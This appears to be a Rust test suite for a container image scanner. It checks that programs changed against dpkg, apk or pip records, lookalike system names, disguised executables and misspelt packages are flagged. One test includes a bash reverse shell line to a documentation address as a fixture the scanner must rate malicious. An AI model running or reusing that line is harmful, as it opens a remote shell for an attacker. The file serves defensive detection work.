//! Packages and what they own, end to end: layers in, findings out.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test may fail loudly"
)]

use std::collections::BTreeMap;
use std::sync::Arc;

use image::{EntryVisitor, Image, Layer, LayerContent, LayerEnd, Resolved};
use model::{
    Confidence, Digest, Entry, EntryKind, Finding, ImageConfig, Report, Severity, Verdict,
};
use read::package::OldHashes;
use scan::layer::LayerReader;
use scan::{LayerResult, Settings, Silent, report};

const CHANGED: &str = "integrity/changed-program";
const LOOKALIKE: &str = "evasion/lookalike-program";

/// One layer: its entries.
#[derive(Default, Clone)]
struct Content(Vec<(Entry, Vec<u8>)>);

impl Content {
    fn file(mut self, path: &str, content: impl AsRef<[u8]>) -> Self {
        let content = content.as_ref().to_vec();
        let mut entry = Entry::file(path, content.len() as u64);
        entry.mode = 0o755;
        self.0.push((entry, content));
        self
    }

    fn link(mut self, path: &str, target: &str) -> Self {
        let mut entry = Entry::file(path, 0);
        entry.kind = EntryKind::Symlink(target.into());
        self.0.push((entry, Vec::new()));
        self
    }

    /// What dpkg keeps of a package, with the digests of what it brings.
    fn dpkg(self, package: &str, files: &[(&str, &[u8])]) -> Self {
        let (mut list, mut sums) = ("/.\n".to_owned(), String::new());
        for (path, content) in files {
            list.push_str(&format!("/{path}\n"));
            sums.push_str(&format!("{}  {path}\n", md5(content)));
        }
        self.file(&format!("var/lib/dpkg/info/{package}.list"), list)
            .file(&format!("var/lib/dpkg/info/{package}.md5sums"), sums)
    }

    /// A package of dpkg with its files.
    fn package(mut self, package: &str, files: &[(&str, &[u8])]) -> Self {
        for (path, content) in files {
            self = self.file(path, content);
        }
        self.dpkg(package, files)
    }
}

/// The text after the magic number tells the fake programs apart.
fn elf(text: &str) -> Vec<u8> {
    [b"\x7fELF\x02\x01\x01\0", text.as_bytes()].concat()
}

fn md5(content: &[u8]) -> String {
    let mut hashes = OldHashes::default();
    hashes.update(content);
    model::digest::hex(&hashes.finish().md5)
}

fn scan(layers: &[Content], entrypoint: &[&str]) -> Report {
    let settings = Settings::default();
    let mut read: BTreeMap<String, LayerResult> = BTreeMap::new();
    let mut of_image = Vec::new();
    for (index, layer) in (0_u8..).zip(layers) {
        let key = format!("layer-{index}");
        let mut reader = LayerReader::new(&key, None, &settings, &Silent);
        for (entry, content) in &layer.0 {
            reader.entry(entry, &mut content.as_slice());
        }
        let end = LayerEnd {
            diff_id: Some(Digest::sha256(&[index; 32])),
            ..LayerEnd::default()
        };
        read.insert(key.clone(), Ok(Arc::new(reader.finish(end))));
        of_image.push(Layer {
            key,
            digest: None,
            diff_id: None,
            size: None,
            media_type: String::new(),
            content: LayerContent::Tar,
        });
    }
    let image = Image {
        target: "test".to_owned(),
        names: Vec::new(),
        manifest: None,
        config_digest: None,
        platform: None,
        artifact: None,
        config: ImageConfig {
            entrypoint: entrypoint.iter().map(|&word| word.to_owned()).collect(),
            ..ImageConfig::default()
        },
        layers: of_image,
        damage: Vec::new(),
    };
    report::of(&Resolved::Image(image), &read, &settings, false)
}

/// The findings of a rule.
fn found<'a>(report: &'a Report, rule: &str) -> Vec<&'a Finding> {
    report.findings.iter().filter(|f| f.rule == rule).collect()
}

/// The one finding of a rule.
#[track_caller]
fn one<'a>(report: &'a Report, rule: &str) -> &'a Finding {
    let findings = found(report, rule);
    assert_eq!(findings.len(), 1, "{:#?}", report.findings);
    findings[0]
}

#[track_caller]
fn none(report: &Report) {
    assert!(report.findings.is_empty(), "{:#?}", report.findings);
}

fn ssh_server() -> Content {
    Content::default()
        .file(
            "var/lib/dpkg/status",
            "Package: openssh-server\nStatus: install ok installed\nVersion: 1:9.2p1-2\n",
        )
        .package(
            "openssh-server",
            &[
                ("usr/sbin/sshd", &elf("as packaged")),
                ("usr/bin/helper", &elf("a helper")),
            ],
        )
}

#[test]
fn a_changed_login_server_names_package_digests_and_layer() {
    let planted = Content::default().file("usr/sbin/sshd", elf("with a second password"));
    let report = scan(&[ssh_server(), planted], &["/usr/bin/helper"]);
    let finding = one(&report, CHANGED);
    assert_eq!(finding.verdict(), Verdict::Suspicious);
    assert_eq!(finding.place.path.as_deref(), Some("/usr/sbin/sshd"));
    assert_eq!(finding.place.layer_index, Some(1));
    assert_eq!(finding.place.layer, Some(Digest::sha256(&[1; 32])));
    for part in [
        "openssh-server 1:9.2p1-2",
        &md5(&elf("as packaged")),
        &md5(&elf("with a second password")),
        "an earlier layer, number 0 (000000000000)",
    ] {
        assert!(finding.detail.contains(part), "{part}: {}", finding.detail);
    }
}

#[test]
fn what_is_as_packaged_is_nothing() {
    none(&scan(&[ssh_server()], &["/usr/sbin/sshd"]));
}

#[test]
fn a_change_in_the_layer_of_the_package_counts_too() {
    let files: &[(&str, &[u8])] = &[("usr/bin/ps", &elf("one"))];
    let layer = Content::default()
        .file("usr/bin/ps", elf("other"))
        .dpkg("procps", files);
    let report = scan(&[layer], &[]);
    assert_eq!(one(&report, CHANGED).verdict(), Verdict::Suspicious);
}

#[test]
fn a_merged_usr_hides_no_change() {
    let base = Content::default()
        .link("bin", "usr/bin")
        .file("usr/bin/su", elf("as packaged"))
        .dpkg("util-linux", &[("bin/su", &elf("as packaged"))]);
    none(&scan(std::slice::from_ref(&base), &[]));
    let planted = Content::default().file("usr/bin/su", elf("planted"));
    let report = scan(&[base, planted], &[]);
    let finding = one(&report, CHANGED);
    assert_eq!(finding.place.path.as_deref(), Some("/usr/bin/su"));
    assert!(finding.detail.contains("/bin/su"), "{}", finding.detail);
}

#[test]
fn a_path_that_became_a_link_leads_to_what_runs() {
    let planted = Content::default()
        .file("usr/lib/games/real", elf("planted"))
        .link("usr/sbin/sshd", "../lib/games/real");
    let report = scan(&[ssh_server(), planted], &[]);
    let finding = one(&report, CHANGED);
    assert_eq!(finding.verdict(), Verdict::Suspicious);
    assert_eq!(finding.place.path.as_deref(), Some("/usr/lib/games/real"));
    assert!(finding.detail.contains("/usr/sbin/sshd"));
    // To another program of a package it is the administrator's choice.
    let chosen = Content::default().link("usr/sbin/sshd", "../bin/helper");
    none(&scan(&[ssh_server(), chosen], &[]));
}

#[test]
fn other_programs_and_scripts_weigh_nothing_alone() {
    let changed = Content::default().file("usr/bin/helper", elf("rebuilt"));
    let report = scan(&[ssh_server(), changed], &[]);
    let finding = one(&report, CHANGED);
    assert_eq!(
        (finding.severity, finding.confidence),
        (Severity::Medium, Confidence::Low)
    );
    let wrapper = Content::default().file("usr/sbin/sshd", "#!/bin/sh\nexec /opt/sshd \"$@\"\n");
    let report = scan(&[ssh_server(), wrapper], &[]);
    assert_eq!(one(&report, CHANGED).verdict(), Verdict::Clean);
}

#[test]
fn configuration_is_there_to_be_changed() {
    let script = "#!/bin/sh\necho start\n";
    let base = Content::default().file(
        "var/lib/dpkg/status",
        format!(
            "Package: cron\nVersion: 1\nConffiles:\n /etc/init.d/cron {}\n",
            md5(script.as_bytes())
        ),
    );
    let edited = Content::default().file("etc/init.d/cron", "#!/bin/sh\necho other\n");
    none(&scan(&[base.clone(), edited.clone()], &[]));
    // Nor does it help that the package lists it among its programs too.
    let careless = base.dpkg("cron", &[("etc/init.d/cron", script.as_bytes())]);
    none(&scan(&[careless, edited], &[]));
}

#[test]
fn a_diverted_file_is_where_it_was_put() {
    let base = Content::default()
        .file("bin/sh.distrib", elf("of bash"))
        .file("bin/sh", elf("of dash"))
        .dpkg("bash", &[("bin/sh", &elf("of bash"))])
        .dpkg("dash", &[("bin/sh", &elf("of dash"))])
        .file(
            "var/lib/dpkg/diversions",
            "/bin/sh\n/bin/sh.distrib\ndash\n",
        );
    none(&scan(std::slice::from_ref(&base), &[]));
    let planted = Content::default().file("bin/sh", elf("planted"));
    let report = scan(&[base, planted], &[]);
    assert!(one(&report, CHANGED).detail.contains("package dash"));
}

#[test]
fn a_file_that_went_to_another_package_is_that_ones() {
    let base = Content::default()
        .file("usr/bin/w", elf("new"))
        .file("var/lib/dpkg/info/old.list", "/usr/share/doc/old\n")
        .file(
            "var/lib/dpkg/info/old.md5sums",
            format!("{}  usr/bin/w\n", md5(&elf("old"))),
        )
        .file("var/lib/dpkg/info/new.list", "/usr/bin/w\n");
    none(&scan(&[base], &[]));
}

#[test]
fn an_earlier_release_of_the_package_is_no_plant() {
    let upgraded = Content::default().dpkg("openssh-server", &[("usr/sbin/sshd", &elf("newer"))]);
    none(&scan(&[ssh_server(), upgraded], &[]));
}

#[test]
fn programs_changed_by_the_dozen_are_treated_alike() {
    let names = ["sshd", "su", "ps", "ls", "login"];
    let mut base = Content::default();
    let mut stripped = Content::default();
    for package in names {
        let paths: Vec<String> = (0..4).map(|n| format!("usr/lib/{package}/{n}")).collect();
        let program = format!("usr/bin/{package}");
        let content = elf(package);
        let files: Vec<(&str, &[u8])> = paths
            .iter()
            .chain([&program])
            .map(|path| (path.as_str(), content.as_slice()))
            .collect();
        base = base.package(package, &files);
        for (path, _) in files {
            stripped = stripped.file(path, elf("stripped"));
        }
    }
    let report = scan(&[base, stripped], &[]);
    // Five sensitive ones, and three others of each package; each says how many there are.
    assert_eq!(found(&report, CHANGED).len(), 5 + 5 * 3);
    for finding in found(&report, CHANGED) {
        assert_eq!(finding.verdict(), Verdict::Clean, "{}", finding.detail);
        assert!(finding.detail.contains("5 programs"), "{}", finding.detail);
    }
}

#[test]
fn alpine_and_python_are_known_as_well() {
    // The digest is that of `abc`; the link's is that of its target's name and says nothing.
    let installed = "P:busybox\nV:1.36\nF:bin\nR:busybox\nZ:Q1qZk+NkcGgWq6PiVxeFDCbJzQ2J0=\n\
                     R:su\nZ:Q1qZk+NkcGgWq6PiVxeFDCbJzQ2J0=\n\n";
    let base = Content::default()
        .file("lib/apk/db/installed", installed)
        .file("bin/busybox", elf("planted"))
        .link("bin/su", "/bin/busybox");
    let report = scan(&[base], &[]);
    let finding = one(&report, CHANGED);
    assert_eq!(finding.verdict(), Verdict::Suspicious);
    assert!(finding.detail.contains("apk package busybox 1.36"));
    assert!(
        finding
            .detail
            .contains("sha1:a9993e364706816aba3e25717850c26c9cd0d89d")
    );

    let site = "usr/lib/python3/site-packages";
    let record = "tool/native.so,sha256=ungWv48Bz-pBQUDeXa4iI7ADYaOWF3qctBD_YfIAFa0,3\n";
    let python = Content::default()
        .file(&format!("{site}/tool-1.0.dist-info/RECORD"), record)
        .file(&format!("{site}/tool/native.so"), elf("rebuilt"));
    let report = scan(&[python], &[]);
    let finding = one(&report, CHANGED);
    assert_eq!(finding.verdict(), Verdict::Clean);
    assert!(finding.detail.contains("pip package tool 1.0"));
}

#[test]
fn ownership_lowers_a_weak_sign_and_hides_nothing() {
    let disguised: &[(&str, &[u8])] = &[("usr/share/tests/program.jpg", &elf("a test"))];
    let rule = "evasion/disguised-program";
    let unowned = Content::default().file(disguised[0].0, disguised[0].1);
    let report = scan(std::slice::from_ref(&unowned), &[]);
    assert_eq!(one(&report, rule).verdict(), Verdict::Suspicious);

    let owned = Content::default().package("tests", disguised);
    let report = scan(&[owned], &[]);
    let finding = one(&report, rule);
    assert_eq!(finding.confidence, Confidence::Low);
    assert!(
        finding.detail.contains("package tests"),
        "{}",
        finding.detail
    );

    // What is certain stays certain, whoever owns it.
    let script: &[(&str, &[u8])] = &[(
        "usr/bin/start",
        b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n",
    )];
    let report = scan(
        &[Content::default().package("tool", script)],
        &["/usr/bin/start"],
    );
    assert_eq!(report.verdict, Verdict::Malicious);

    // A package that anybody can publish makes nothing weigh less.
    let record = "program.jpg,sha256=0hxFOSxu_xeVzoyilWnesb2TUnkZX1iTBg6Jl-aUpZE,14\n";
    let python = unowned.file("usr/share/tests/a-1.dist-info/RECORD", record);
    assert_eq!(
        one(&scan(&[python], &[]), rule).confidence,
        Confidence::Medium
    );
}

#[test]
fn a_program_named_like_the_system_weighs_where_it_is_not_and_runs() {
    let layer = Content::default().file("tmp/nginx", elf("other"));
    let report = scan(std::slice::from_ref(&layer), &["/tmp/nginx"]);
    assert_eq!(one(&report, LOOKALIKE).verdict(), Verdict::Suspicious);
    let report = scan(std::slice::from_ref(&layer), &["/usr/bin/other"]);
    assert_eq!(one(&report, LOOKALIKE).verdict(), Verdict::Clean);

    let built = Content::default().file("usr/sbin/nginx", elf("built here"));
    none(&scan(&[built], &["/usr/sbin/nginx"]));
    let thread = Content::default().file("usr/local/bin/kworker", elf("other"));
    let report = scan(&[thread], &["/usr/local/bin/kworker"]);
    assert_eq!(one(&report, LOOKALIKE).verdict(), Verdict::Suspicious);
    let owned = Content::default().package("odd", &[("var/cache/init", &elf("odd"))]);
    none(&scan(&[owned], &["/var/cache/init"]));
}

#[test]
fn a_misspelt_package_is_information() {
    let site = "usr/lib/python3/site-packages";
    let layer = |name: &str| {
        let path = format!("{site}/{name}-1.0.dist-info/RECORD");
        Content::default().file(&path, "a.py,,\n")
    };
    let report = scan(&[layer("reqeusts")], &[]);
    let finding = one(&report, "supply/misspelt-package");
    assert_eq!(finding.severity, Severity::Info);
    assert!(finding.detail.contains("`requests`"), "{}", finding.detail);
    none(&scan(&[layer("requests")], &[]));
}
